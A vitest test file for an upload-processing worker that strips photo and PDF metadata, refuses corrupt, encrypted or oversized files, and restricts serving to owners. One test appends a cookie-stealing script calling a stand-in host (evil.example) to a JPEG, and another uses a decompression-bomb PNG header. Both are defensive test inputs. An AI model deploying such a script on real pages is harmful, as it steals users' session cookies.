// The worker's side: photos re-encoded without metadata, PDFs cleaned, hostile files refused with a
// reason the designer reads, and only processed copies ever served.
import { createHash } from "node:crypto";
import { performance } from "node:perf_hooks";
import { Readable } from "node:stream";
import { PDFDocument, PDFName } from "pdf-lib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { listAuditPage } from "~/audit/audit.server";
import { BlobStoreUnavailable, type BlobStore } from "~/infra/blobs/blob-store";
import { db } from "~/infra/db.server";
import { derivativeSize, fileKeys, MediaFileNotFound, type FileKind } from "~/media/media";
import {
  describePhoto,
  listFilesForOwner,
  openFileForOwner,
  openProcessedFile,
  processUpload,
  proposalFiles,
  receiveUpload,
  removeFile,
} from "~/submissions/proposal-files.server";
import { ProposalNotFound, saveDraft, submitProposal } from "~/submissions/proposals.server";
import {
  encryptedPdf,
  hasGpsPointer,
  noisyJpeg,
  PDF_AUTHOR,
  pdfWithMetadata,
  phoneJpeg,
  pngDeclaring,
  solidPng,
  tempFsStore,
  type MediaWorld,
} from "../../support/media-fixtures";
import { completeDraft, createPerson, draftProposal } from "../../support/fixtures";
import { duringSubmissions } from "../../support/calendar";

let world: MediaWorld;
beforeAll(async () => {
  world = await tempFsStore();
});
afterAll(() => world?.cleanup());

type Target = { proposalId: number; ownerId: number };

async function uploaded(
  target: Target,
  kind: FileKind,
  bytes: Buffer,
  filename = kind === "photo" ? "photo.jpg" : "plans.pdf",
  store: BlobStore = world.store,
) {
  return receiveUpload({ ...target, kind, filename, stream: Readable.from([bytes]), now: duringSubmissions }, { store });
}

async function readAll(stream: NodeJS.ReadableStream) {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks);
}

async function stored(key: string) {
  return readAll(await world.store.get(key));
}

async function row(fileId: number) {
  const [file] = await db<
    {
      status: string;
      refusalReason: string | null;
      derivatives: Record<string, string>;
      readySha256: string | null;
      width: number | null;
      height: number | null;
      pages: number | null;
      processedAt: Date | null;
    }[]
  >`
    select status, refusal_reason, derivatives, ready_sha256, width, height, pages, processed_at from proposal_files where id = ${fileId}`;
  return file;
}

async function derivativeKeysPresent(proposalId: number, fileId: number) {
  const keys = fileKeys(proposalFiles, proposalId, fileId);
  const present = [];
  for (const key of [keys.large, keys.medium, keys.thumbnail, keys.clean]) if (await world.store.stat(key)) present.push(key);
  return present;
}

describe("photos", () => {
  test("become three WebP derivatives (1600, 800, 320 px), never enlarged, the large one's SHA-256 recorded", async () => {
    const target = await draftProposal(db);
    const file = await uploaded(target, "photo", await noisyJpeg(2400, 1800));
    expect(await processUpload(file.id, { store: world.store })).toEqual({ status: "ready", fileId: file.id });

    const ready = await row(file.id);
    const keys = fileKeys(proposalFiles, target.proposalId, file.id);
    expect(ready).toMatchObject({ status: "ready", refusalReason: null, width: 2400, height: 1800, pages: null });
    expect(ready.processedAt).toBeInstanceOf(Date);
    expect(ready.derivatives).toEqual({ large: keys.large, medium: keys.medium, thumbnail: keys.thumbnail });
    const sizes = [];
    for (const key of [keys.large, keys.medium, keys.thumbnail]) {
      const meta = await sharp(await stored(key)).metadata();
      expect(meta.format).toBe("webp");
      sizes.push([meta.width, meta.height]);
    }
    expect(sizes).toEqual([
      [1600, 1200],
      [800, 600],
      [320, 240],
    ]);
    expect(ready.readySha256).toBe(
      createHash("sha256")
        .update(await stored(keys.large))
        .digest("hex"),
    );

    const small = await uploaded(target, "photo", await solidPng(500, 250));
    await processUpload(small.id, { store: world.store });
    const smallKeys = fileKeys(proposalFiles, target.proposalId, small.id);
    expect(await sharp(await stored(smallKeys.large)).metadata()).toMatchObject({ width: 500, height: 250 });
    expect(await sharp(await stored(smallKeys.thumbnail)).metadata()).toMatchObject({ width: 320, height: 160 });

    // derivativeSize (for <img width height>) predicts what sharp made, odd sizes included.
    const odd = await uploaded(target, "photo", await solidPng(1001, 667));
    await processUpload(odd.id, { store: world.store });
    const oddKeys = fileKeys(proposalFiles, target.proposalId, odd.id);
    for (const variant of ["large", "medium", "thumbnail"] as const) {
      const meta = await sharp(await stored(oddKeys[variant])).metadata();
      expect({ width: meta.width, height: meta.height }).toEqual(derivativeSize(1001, 667, variant));
    }
  });

  test("are turned upright and stripped of EXIF, GPS, XMP, IPTC and ICC", async () => {
    const target = await draftProposal(db);
    const original = await phoneJpeg();
    const before = await sharp(original).metadata();
    expect(before).toMatchObject({ width: 600, height: 300, orientation: 6 });
    expect(hasGpsPointer(before.exif!)).toBe(true);
    expect(before.exif!.includes(PDF_AUTHOR)).toBe(true);
    expect(before.xmp!.includes(PDF_AUTHOR)).toBe(true);

    const file = await uploaded(target, "photo", original);
    await processUpload(file.id, { store: world.store });
    expect(await row(file.id)).toMatchObject({ status: "ready", width: 300, height: 600 });
    for (const key of Object.values((await row(file.id)).derivatives)) {
      const bytes = await stored(key);
      const meta = await sharp(bytes).metadata();
      expect(meta.height).toBeGreaterThan(meta.width!); // rotated: portrait, as shot
      expect(meta.orientation).toBeUndefined();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.iptc).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(bytes.includes(PDF_AUTHOR)).toBe(false);
    }
  });

  test("unusual but legitimate photos become ready: CMYK JPEG, 16-bit PNG with transparency, Display P3", async () => {
    const target = await draftProposal(db);
    const base = () => sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 200, g: 40, b: 30, alpha: 0.5 } } });
    const inputs = [
      await base().flatten().toColourspace("cmyk").jpeg().toBuffer(),
      await base().toColourspace("rgb16").png().toBuffer(),
      await base().flatten().withIccProfile("p3").jpeg().toBuffer(),
      await base().webp().toBuffer(),
    ];
    for (const input of inputs) {
      const file = await uploaded(target, "photo", input);
      expect(await processUpload(file.id, { store: world.store })).toMatchObject({ status: "ready" });
      const meta = await sharp(await stored(fileKeys(proposalFiles, target.proposalId, file.id).large)).metadata();
      expect(meta).toMatchObject({ format: "webp", space: "srgb", width: 300, height: 200 });
      expect(meta.icc).toBeUndefined();
    }
  });

  test("a JPEG with a script appended: the served derivatives do not contain it", async () => {
    const target = await draftProposal(db);
    const script = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
    const file = await uploaded(target, "photo", Buffer.concat([await noisyJpeg(900, 600), Buffer.from(script)]));
    expect((await processUpload(file.id, { store: world.store })).status).toBe("ready");
    const ready = await row(file.id);
    expect(Object.keys(ready.derivatives)).toEqual(["large", "medium", "thumbnail"]);
    for (const key of Object.values(ready.derivatives)) {
      const bytes = await stored(key);
      expect(bytes.includes(script)).toBe(false);
      expect(bytes.includes("<script")).toBe(false);
    }
    // The original keeps it, but no function serves originals.
    expect((await stored(fileKeys(proposalFiles, target.proposalId, file.id).original)).includes(script)).toBe(true);
  });

  test("a truncated JPEG is refused with a French reason, and no derivative remains", async () => {
    const target = await draftProposal(db);
    const jpeg = await noisyJpeg(900, 600);
    const file = await uploaded(target, "photo", jpeg.subarray(0, Math.floor(jpeg.length * 0.6)));
    const outcome = await processUpload(file.id, { store: world.store });
    expect(outcome).toMatchObject({ status: "refused", stage: "decode" });
    const refused = await row(file.id);
    expect(refused.status).toBe("refused");
    expect(refused.refusalReason).toMatch(/endommagée ou incomplète/);
    expect(refused.derivatives).toEqual({});
    expect(refused.readySha256).toBeNull();
    expect(await derivativeKeysPresent(target.proposalId, file.id)).toEqual([]);
    const [listed] = await listFilesForOwner(target, { store: world.store });
    expect(listed).toMatchObject({ status: "refused", refusalReason: refused.refusalReason });
  });

  test("a PNG declaring 20000×20000 pixels is refused from its header, before any decoding", async () => {
    const target = await draftProposal(db);
    const bomb = pngDeclaring(20_000, 20_000);
    expect(bomb.length).toBeLessThan(200);
    const file = await uploaded(target, "photo", bomb, "bombe.png");
    const started = performance.now();
    const outcome = await processUpload(file.id, { store: world.store });
    const elapsed = performance.now() - started;
    // "header" means refused on the declared size: not one pixel was decoded.
    expect(outcome).toMatchObject({ status: "refused", stage: "header" });
    const reason = (await row(file.id)).refusalReason!;
    expect(reason).toMatch(/20\s000 × 20\s000 pixels \(400 mégapixels\)/);
    expect(reason).toMatch(/au plus 40 mégapixels/);
    expect(await derivativeKeysPresent(target.proposalId, file.id)).toEqual([]);
    console.info(`bombe PNG 20000×20000 refusée en ${elapsed.toFixed(1)} ms (lecture du stockage et écriture en base comprises)`);
  });

  test("a real 12000×12000 PNG is refused too", async () => {
    const target = await draftProposal(db);
    const png = await solidPng(12_000, 12_000);
    const file = await uploaded(target, "photo", png, "immense.png");
    expect(await processUpload(file.id, { store: world.store })).toMatchObject({ status: "refused", stage: "header" });
    expect((await row(file.id)).refusalReason).toMatch(/12\s000 × 12\s000 pixels \(144 mégapixels\)/);
  });

  test("processing is idempotent: a retried job does not redo or duplicate anything", async () => {
    const target = await draftProposal(db);
    const file = await uploaded(target, "photo", await noisyJpeg(800, 600));
    await processUpload(file.id, { store: world.store });
    const first = await row(file.id);
    expect(await processUpload(file.id, { store: world.store })).toEqual({ status: "skipped", fileId: file.id });
    expect(await row(file.id)).toEqual(first);

    // A crash after the copies were written but before the row was updated: the retry overwrites the same keys.
    await db`update proposal_files set status = 'processing', derivatives = '{}', ready_sha256 = null, processed_at = null where id = ${file.id}`;
    const keysBefore = (await world.keys()).filter((k) => k.startsWith(`proposals/${target.proposalId}/`)).sort();
    expect(await processUpload(file.id, { store: world.store })).toMatchObject({ status: "ready" });
    expect((await world.keys()).filter((k) => k.startsWith(`proposals/${target.proposalId}/`)).sort()).toEqual(keysBefore);
    expect((await row(file.id)).readySha256).toBe(first.readySha256);
    expect(await processUpload(999_999, { store: world.store })).toEqual({ status: "skipped", fileId: 999_999 });
  });

  test("a store failure is retried; on the last attempt the file is refused and its partial copies removed", async () => {
    const target = await draftProposal(db);
    const file = await uploaded(target, "photo", await noisyJpeg(800, 600));
    const keys = fileKeys(proposalFiles, target.proposalId, file.id);
    const flaky: BlobStore = {
      ...world.store,
      async put(key, body, options) {
        if (key === keys.medium) throw new BlobStoreUnavailable(new Error("panne simulée"));
        return world.store.put(key, body, options);
      },
    };
    await expect(processUpload(file.id, { store: flaky })).rejects.toBeInstanceOf(BlobStoreUnavailable);
    expect((await row(file.id)).status).toBe("processing");
    expect(await processUpload(file.id, { store: flaky, lastAttempt: true })).toMatchObject({ status: "refused", stage: "failed" });
    expect((await row(file.id)).refusalReason).toMatch(/a échoué/);
    expect(await derivativeKeysPresent(target.proposalId, file.id)).toEqual([]);
  });

  test("a photo that becomes ready starts a new draft revision, so submitting again makes version 2 with it", async () => {
    const target = await draftProposal(db);
    await saveDraft({ ...target, draft: completeDraft, now: duringSubmissions });
    const first = await uploaded(target, "photo", await noisyJpeg(400, 300));
    await processUpload(first.id, { store: world.store });
    await describePhoto({ ...target, fileId: first.id, description: "La valise ouverte.", now: duringSubmissions });
    const v1 = await submitProposal({ ...target, now: duringSubmissions });
    const second = await uploaded(target, "photo", await noisyJpeg(400, 300, { seed: 3 }));
    await processUpload(second.id, { store: world.store });
    await describePhoto({ ...target, fileId: second.id, description: "Un atelier.", now: duringSubmissions });
    const v2 = await submitProposal({ ...target, now: duringSubmissions });
    expect([v1.version, v2.version]).toEqual([1, 2]);
    expect(v2.content.files.map((f) => f.id).sort()).toEqual([first.id, second.id].sort());
    await removeFile({ ...target, fileId: first.id, now: duringSubmissions });
    const v3 = await submitProposal({ ...target, now: duringSubmissions });
    expect(v3.content.files.map((f) => f.id)).toEqual([second.id]);
  });
});

describe("PDFs", () => {
  test("the cleaned copy has no author, title, creator, producer nor XMP; pages are counted", async () => {
    const target = await draftProposal(db);
    const original = await pdfWithMetadata(3);
    expect(original.includes(PDF_AUTHOR)).toBe(true);
    const file = await uploaded(target, "document", original, "plans de Jean.pdf");
    expect((await processUpload(file.id, { store: world.store })).status).toBe("ready");

    const ready = await row(file.id);
    const keys = fileKeys(proposalFiles, target.proposalId, file.id);
    expect(ready).toMatchObject({ status: "ready", pages: 3, width: null, height: null, derivatives: { clean: keys.clean } });
    const clean = await stored(keys.clean);
    expect(ready.readySha256).toBe(createHash("sha256").update(clean).digest("hex"));
    expect(clean.includes(PDF_AUTHOR)).toBe(false);
    expect(clean.toString("latin1")).not.toMatch(/\/(Author|Creator|Producer|Title|Subject|Keywords|Metadata)\b/);
    const reread = await PDFDocument.load(clean, { updateMetadata: false });
    expect(reread.getPageCount()).toBe(3);
    expect([reread.getAuthor(), reread.getTitle(), reread.getCreator(), reread.getProducer(), reread.getSubject(), reread.getKeywords()]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(reread.catalog.get(PDFName.of("Metadata"))).toBeUndefined();

    const opened = await openFileForOwner({ ...target, fileId: file.id, variant: "clean" }, { store: world.store });
    expect(opened).toMatchObject({
      contentType: "application/pdf",
      disposition: "attachment",
      filename: "plans de Jean.pdf",
      sha256: ready.readySha256,
    });
    expect(await readAll(opened.stream)).toEqual(clean);
  });

  test.each([
    ["an encrypted PDF", () => encryptedPdf(), /protégé par un mot de passe ou chiffré/],
    ["a PDF that only starts like one", async () => Buffer.from(`%PDF-1.7\n${"n'importe quoi ".repeat(500)}`), /pas un PDF lisible/],
    [
      "a PDF of 301 pages",
      async () => {
        const doc = await PDFDocument.create();
        for (let i = 0; i < 301; i++) doc.addPage([100, 100]);
        return Buffer.from(await doc.save());
      },
      /compte 301 pages : 300 au plus/,
    ],
  ])("%s is refused with a reason", async (_label, make, reason) => {
    const target = await draftProposal(db);
    const file = await uploaded(target, "document", await make());
    expect(await processUpload(file.id, { store: world.store })).toMatchObject({ status: "refused", stage: "document" });
    expect((await row(file.id)).refusalReason).toMatch(reason);
    expect(await derivativeKeysPresent(target.proposalId, file.id)).toEqual([]);
  });
});

describe("reading", () => {
  test("only processed copies are served, only to the owner; originals never", async () => {
    const target = await draftProposal(db);
    const file = await uploaded(target, "photo", await noisyJpeg(640, 480), "Kit déplié.jpeg");
    const open = (variant: "large" | "medium" | "thumbnail" | "clean", who = target) =>
      openFileForOwner({ ...who, fileId: file.id, variant }, { store: world.store });

    // Not ready yet: nothing to serve.
    await expect(open("large")).rejects.toBeInstanceOf(MediaFileNotFound);
    const [processing] = await listFilesForOwner(target);
    expect(processing).toMatchObject({ id: file.id, status: "processing", displayName: "Kit déplié.jpeg", derivatives: {} });
    expect(processing).not.toHaveProperty("originalKey");

    await processUpload(file.id, { store: world.store });
    const thumbnail = await open("thumbnail");
    expect(thumbnail).toMatchObject({ contentType: "image/webp", disposition: "inline", filename: "Kit déplié.webp", sha256: null });
    expect((await sharp(await readAll(thumbnail.stream)).metadata()).width).toBe(320);
    expect((await open("large")).sha256).toBe((await row(file.id)).readySha256);
    await expect(open("clean")).rejects.toBeInstanceOf(MediaFileNotFound);

    const intruder = (await createPerson(db, { name: "Curieux" })).id;
    await expect(open("large", { ...target, ownerId: intruder })).rejects.toBeInstanceOf(ProposalNotFound);
    const other = await draftProposal(db);
    await expect(openFileForOwner({ ...other, fileId: file.id, variant: "large" }, { store: world.store })).rejects.toBeInstanceOf(MediaFileNotFound);
    await expect(
      openProcessedFile({ fileId: file.id, variant: "medium", proposalId: other.proposalId }, { store: world.store }),
    ).rejects.toBeInstanceOf(MediaFileNotFound);

    const [listed] = await listFilesForOwner(target);
    expect(listed).toMatchObject({ status: "ready", width: 640, height: 480, originalSize: file.originalSize });
    expect(Object.keys(listed.derivatives).sort()).toEqual(["large", "medium", "thumbnail"]);

    // Removed from the draft: gone from the list, still readable (a submitted version may refer to it).
    await removeFile({ ...target, fileId: file.id, now: duringSubmissions });
    expect(await listFilesForOwner(target)).toEqual([]);
    expect((await open("medium")).contentType).toBe("image/webp");
    const audit = (await listAuditPage({ subject: `proposal:${target.proposalId}`, page: 1 })).items;
    expect(audit.map((e) => e.action)).toEqual(["proposal.file_removed", "proposal.file_ready", "proposal.file_added", "proposal.created"]);
  });
});
